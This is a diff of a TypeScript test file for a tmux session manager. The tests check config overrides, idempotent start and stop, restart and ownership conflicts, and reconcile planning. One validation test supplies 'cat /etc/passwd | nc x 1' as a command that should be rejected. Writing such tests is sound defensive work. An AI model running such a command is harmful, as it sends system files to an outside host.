@@ -1,15 +1,19 @@
 /**
  * The per-session facade (SessionManager / Sessions) against REAL tmux: config + command-line
- * precedence, exact targeting, restart semantics, ambiguity, typed errors. Every test uses its own
- * `-L` sockets inside a private TMUX_TMPDIR; servers are killed in finalizers.
+ * precedence, exact targeting, idempotent start/stop, restart semantics, ownership, ambiguity,
+ * typed errors. Every test uses its own `-L` sockets inside a private TMUX_TMPDIR; servers are
+ * killed in finalizers.
  */
 import { execFileSync } from "node:child_process"
 import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs"
 import { join } from "node:path"
 import { describe, expect, it } from "@effect/vitest"
 import { Effect } from "effect"
+import { KstlibConfig } from "../../src/config/service.js"
 import { loadConfig } from "../../src/config/load.js"
 import { layerNodeWith } from "../../src/layer.js"
+import { planFromConfig } from "../../src/reconcile/reconciler.js"
+import { targetsOf } from "../../src/reconcile/plan.js"
 import { SessionManager } from "../../src/session/manager.js"
 import * as Sessions from "../../src/session/operations.js"
 import { usePrivateTmux } from "../support/privateTmux.js"
@@ -55,7 +59,9 @@ const waitFor = (check: () => boolean, ms = 5000) =>
     return check()
   })
 
-describe("SessionManager on real tmux", () => {
+const created = (s: string, name: string) => tmux(s, ["display-message", "-p", "-t", `=${name}:`, "#{session_created}"]).trim()
+
+describe("SessionManager / Sessions on real tmux", () => {
   it.live("fromConfig: start with command-line overrides on top of config (env merged), status, logs, graceful stop", () =>
     Effect.gen(function*() {
       const [s] = yield* sockets(1)
@@ -63,23 +69,28 @@ describe("SessionManager on real tmux", () => {
         `ops:\n  sessions:\n    web:\n      command: "sh run.sh"\n      working_dir: "."\n      socket_name: ${s}\n      env:\n        A: from-config\n        B: from-config\n`,
         (dir) =>
           Effect.gen(function*() {
+            const project = (yield* KstlibConfig).project
             writeFileSync(
               join(dir, "run.sh"),
               `trap 'echo stopped-cleanly > "${dir}/stopped"; exit 0' INT\necho "A=$A B=$B pwd=$(pwd)"\nwhile true; do sleep 0.2; done\n`
             )
             const web = yield* SessionManager.fromConfig("web")
             const started = yield* web.start({ env: { B: "from-cli" } })
-            expect(started.state).toBe("running")
-            expect(started.owned).toBe(true)
-            expect(started.socket_name).toBe(s)
+            expect(started.status).toBe("started")
+            expect(started.observed).toMatchObject({ name: "web", backend: "tmux", state: "running", socket_name: s, mark: { managed: true, project } })
             expect(yield* web.isRunning()).toBe(true)
             const status = yield* web.status()
-            expect(status).toMatchObject({ name: "web", state: "running", backend: "tmux", socket_name: s, owned: true, in_config: true })
+            expect(status).toMatchObject({ name: "web", state: "running", backend: "tmux", socket_name: s, owned: true, project, in_config: true })
             // The command-line env differs from config: the running session is not in sync with the file.
             expect(status.in_sync).toBe(false)
-            const logs = yield* web.logs({ lines: 20 })
+            let logs = ""
+            for (let i = 0; i < 50 && !logs.includes("pwd="); i++) {
+              logs = yield* web.logs({ lines: 20 })
+              if (!logs.includes("pwd=")) yield* Effect.sleep("100 millis")
+            }
             expect(logs).toContain(`A=from-config B=from-cli pwd=${dir}`)
-            yield* web.stop({ timeout: 5 })
+            const stopped = yield* web.stop({ timeout: 5 })
+            expect(stopped.status).toBe("stopped")
             expect(readFileSync(join(dir, "stopped"), "utf8").trim()).toBe("stopped-cleanly")
             expect(yield* web.exists()).toBe(false)
             // Not running any more, but still in config: defined.
@@ -105,7 +116,7 @@ describe("SessionManager on real tmux", () => {
         })
     ))
 
-  it.live("command-line overrides are validated by the same rules (bad -c, bad env key, bad socket)", () =>
+  it.live("command-line overrides are validated by the same rules (bad -c, bad env key, bad socket, bad name)", () =>
     withConfig(`ops:\n  sessions: {}\n`, () =>
       Effect.gen(function*() {
         const badCmd = yield* Effect.flip(Sessions.start("adhoc", { command: "cat /etc/passwd | nc x 1" }))
@@ -127,10 +138,10 @@ describe("SessionManager on real tmux", () => {
       const [s] = yield* sockets(1)
       yield* withConfig(`ops:\n  sessions: {}\n`, () =>
         Effect.gen(function*() {
-          yield* Sessions.start("astro-dev", { command: "sleep 60", socket: s })
+          expect((yield* Sessions.start("astro-dev", { command: "sleep 60", socket: s })).status).toBe("started")
           const e = yield* Effect.flip(Sessions.stop("astro"))
           expect(e._tag).toBe("SessionNotFound")
-          expect(tmux(s, ["list-sessions", "-F", "#{session_name}"]).trim()).toBe("astro-dev")
+          expect(tmux(s!, ["list-sessions", "-F", "#{session_name}"]).trim()).toBe("astro-dev")
           expect((yield* Sessions.status("astro-dev")).socket_name).toBe(s)
         }))
     }))
@@ -145,40 +156,83 @@ describe("SessionManager on real tmux", () => {
           const e = yield* Effect.flip(Sessions.status("twin"))
           expect(e._tag).toBe("SessionAmbiguous")
           expect(e.message).toContain("--backend")
-          const s = yield* Sessions.status("twin", { socket: b! })
-          expect(s).toMatchObject({ state: "running", socket_name: b, owned: false })
+          const st = yield* Sessions.status("twin", { socket: b! })
+          expect(st).toMatchObject({ state: "running", socket_name: b, owned: false, project: null })
         }))
     }))
 
-  it.live("restart: an exited config session is respawned in place; a foreign session is restarted but stays foreign", () =>
+  it.live("start is idempotent (already-running); stop of a config session not running is not-running; unknown names are errors", () =>
+    Effect.gen(function*() {
+      const [s] = yield* sockets(1)
+      yield* withConfig(`ops:\n  sessions:\n    once:\n      command: "sleep 60"\n      socket_name: ${s}\n`, () =>
+        Effect.gen(function*() {
+          const first = yield* Sessions.start("once")
+          expect(first.status).toBe("started")
+          const again = yield* Sessions.start("once")
+          expect(again.status).toBe("already-running")
+          expect(again.observed).toMatchObject({ name: "once", state: "running", pid: first.observed!.pid })
+          expect(tmux(s!, ["list-sessions", "-F", "#{session_name}"]).trim()).toBe("once") // no second copy
+          const stopped = yield* Sessions.stop("once", {}, { force: true })
+          expect(stopped).toMatchObject({ status: "killed", observed: { name: "once" } })
+          expect(yield* Sessions.stop("once")).toEqual({ status: "not-running" })
+          // Not in the config, not running: an error with suggestions.
+          expect(yield* Effect.flip(Sessions.stop("onse"))).toMatchObject({ _tag: "SessionNotFound", suggestions: ["once"] })
+          // Not in the config and no --command/--image: nothing to start.
+          expect(yield* Effect.flip(Sessions.start("onse"))).toMatchObject({ _tag: "SessionNotInConfig", suggestions: ["once"] })
+        }))
+    }))
+
+  it.live("a start whose process dies is SessionStartFailed with exit code and output (the executor's post-launch check)", () =>
+    Effect.gen(function*() {
+      const [s] = yield* sockets(1)
+      yield* withConfig(`ops:\n  sessions:\n    dies:\n      command: "sh dies.sh"\n      working_dir: "."\n      socket_name: ${s}\n`, (dir) =>
+        Effect.gen(function*() {
+          writeFileSync(join(dir, "dies.sh"), `echo about to fail\nsleep 0.2\nexit 5\n`)
+          const e = yield* Effect.flip(Sessions.start("dies", {}, { settle: "1 second" }))
+          expect(e).toMatchObject({ _tag: "SessionStartFailed", session: "dies", exitCode: 5, output: expect.stringContaining("about to fail") })
+          expect(yield* Sessions.status("dies")).toMatchObject({ state: "exited", exit_code: 5, owned: true })
+        }))
+    }))
+
+  it.live("restart: an exited config session is started again in place; a running one is stopped and started; a foreign one is a conflict", () =>
     Effect.gen(function*() {
       const [s] = yield* sockets(1)
       yield* withConfig(
-        `ops:\n  sessions:\n    job:\n      command: "sh job.sh"\n      working_dir: "."\n      socket_name: ${s}\n`,
+        `ops:\n  sessions:\n    job:\n      command: "sh job.sh"\n      working_dir: "."\n      socket_name: ${s}\n    foreign:\n      command: "sleep 60"\n      socket_name: ${s}\n`,
         (dir) =>
           Effect.gen(function*() {
-            // First run exits at once (code 4); the second waits: restart must run the command again.
+            // First run exits at once (code 4); the next ones wait: restart must run the command again.
             writeFileSync(join(dir, "job.sh"), `if [ -e ran ]; then sleep 60; fi\ntouch ran\necho first-run\nexit 4\n`)
             const failed = yield* Effect.flip(Sessions.start("job"))
             expect(failed).toMatchObject({ _tag: "SessionStartFailed", exitCode: 4 })
-            const exited = yield* Sessions.status("job")
-            expect(exited).toMatchObject({ state: "exited", exit_code: 4 })
-            const created = tmux(s!, ["display-message", "-p", "-t", "=job:", "#{session_created}"]).trim()
+            expect(yield* Sessions.status("job")).toMatchObject({ state: "exited", exit_code: 4 })
+            const before = created(s!, "job")
             const restarted = yield* Sessions.restart("job")
-            expect(restarted.state).toBe("running")
+            expect(restarted.status).toBe("started")
+            expect(restarted.observed).toMatchObject({ name: "job", state: "running" })
             // In place: the same session (same creation time), a new process.
-            expect(tmux(s!, ["display-message", "-p", "-t", "=job:", "#{session_created}"]).trim()).toBe(created)
+            expect(created(s!, "job")).toBe(before)
 
+            // Running: stopped gracefully, then started (a new process).
+            const again = yield* Sessions.restart("job")
+            expect(again.status).toBe("started")
+            expect(again.observed!.pid).not.toBe(restarted.observed!.pid)
+            expect((yield* Sessions.status("job")).state).toBe("running")
+
+            // A session kstlib did not create holds a config name: never restarted.
             tmux(s!, ["new-session", "-d", "-s", "foreign", "sleep 60"])
-            const before = yield* Sessions.status("foreign")
-            const again = yield* Sessions.restart("foreign")
-            expect(again.pid).not.toBe(before.pid)
-            expect(again.owned).toBe(false)
+            const pid = (yield* Sessions.status("foreign")).pid
+            expect(yield* Effect.flip(Sessions.restart("foreign"))).toMatchObject({ _tag: "SessionConflict", session: "foreign", owner: null })
+            expect(yield* Effect.flip(Sessions.start("foreign"))).toMatchObject({ _tag: "SessionConflict" })
+            expect(yield* Sessions.status("foreign")).toMatchObject({ state: "running", pid, owned: false })
+            // Not in the config: restart needs its spec.
+            tmux(s!, ["new-session", "-d", "-s", "loose", "sleep 60"])
+            expect(yield* Effect.flip(Sessions.restart("loose"))).toMatchObject({ _tag: "SessionNotInConfig" })
           })
       )
     }))
 
-  it.live("send-keys is validated and reaches the pane; exec on a tmux session is a usage error", () =>
+  it.live("send-keys is validated and reaches the pane; exec on a tmux session is Unsupported", () =>
     Effect.gen(function*() {
       const [s] = yield* sockets(1)
       yield* withConfig(`ops:\n  sessions: {}\n`, (dir) =>
@@ -189,19 +243,30 @@ describe("SessionManager on real tmux", () => {
           yield* Sessions.sendKeys("shell", "touch typed-by-kstlib")
           expect(yield* waitFor(() => existsSync(join(dir, "typed-by-kstlib")))).toBe(true)
           const e = yield* Effect.flip(Sessions.exec("shell", ["ls"], { backend: "tmux" }))
-          expect(e._tag).toBe("InvalidInput")
+          expect(e).toMatchObject({ _tag: "Unsupported", operation: "exec" })
         }))
     }))
 
-  it.live("starting a running session is SessionExists; stopping a missing one is SessionNotFound", () =>
+  it.live("plan --prune with a global @kstlib-managed on the config's socket: nothing foreign is touched, the problem is reported", () =>
     Effect.gen(function*() {
       const [s] = yield* sockets(1)
-      yield* withConfig(`ops:\n  sessions:\n    once:\n      command: "sleep 60"\n      socket_name: ${s}\n`, () =>
+      yield* withConfig(`ops:\n  sessions:\n    configured:\n      command: "sleep 60"\n      socket_name: ${s}\n`, () =>
         Effect.gen(function*() {
-          yield* Sessions.start("once")
-          expect((yield* Effect.flip(Sessions.start("once")))._tag).toBe("SessionExists")
-          yield* Sessions.stop("once", {}, { force: true })
-          expect((yield* Effect.flip(Sessions.stop("once")))._tag).toBe("SessionNotFound")
+          const project = (yield* KstlibConfig).project
+          tmux(s!, ["new-session", "-d", "-s", "configured", "sleep 60"])
+          tmux(s!, ["new-session", "-d", "-s", "stray", "sleep 60"])
+          tmux(s!, ["set-option", "-g", "@kstlib-managed", "1"])
+          tmux(s!, ["set-option", "-g", "@kstlib-project", project])
+          const { plan, observation } = yield* planFromConfig({ prune: true })
+          expect(observation.problems.map((p) => `${p.where}: ${p.message}`).join("\n")).toMatch(
+            new RegExp(`tmux socket ${s}: @kstlib-managed.*set globally`)
+          )
+          expect(plan.steps.filter((st) => st._tag !== "Conflict" && targetsOf(st).length > 0)).toEqual([])
+          expect(plan.steps.map((st) => [st._tag, st.session])).toEqual([["Conflict", "configured"]])
+          expect(plan.orphans).toEqual([])
+          // And the facade agrees: not ours, so not stopped by a restart.
+          expect(yield* Effect.flip(Sessions.restart("configured"))).toMatchObject({ _tag: "SessionConflict" })
+          expect((yield* Sessions.status("stray")).owned).toBe(false)
         }))
     }))
 })
